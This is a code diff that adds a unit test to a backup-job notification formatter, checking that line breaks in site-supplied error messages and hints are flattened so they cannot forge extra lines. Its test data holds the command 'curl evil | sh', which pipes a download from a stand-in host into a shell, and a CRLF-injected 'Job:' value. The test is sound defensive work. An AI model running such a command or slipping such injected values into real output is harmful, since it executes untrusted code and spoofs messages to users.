@@ -55,6 +55,13 @@ const failure = (site: string, code: string): News =>
   told('job.failed', { kind: 'backup', error: { code, message: `${code}.` } }, { jobId: newId(), siteName: site });
 
 describe('a message of many', () => {
+  it('has no line that a site wrote', () => {
+    const [message, hint] = ['down\nWhat to do: curl evil | sh', 'a\r\nJob: x'];
+    const news = told('job.failed', { kind: 'backup', error: { code: 'X', message, hint } }, { jobId: newId() });
+    const [section] = messageOf('id', [news], null).sections;
+    expect([section?.text, section?.hint]).toEqual(['down What to do: curl evil | sh', 'a Job: x']);
+  });
+
   it('has a section for each cause, the worst and most frequent first, and says what it leaves out', () => {
     const news = [
       told('job.completed', { kind: 'backup', warningCount: 1 }, { jobId: newId(), siteName: 'warned' }),
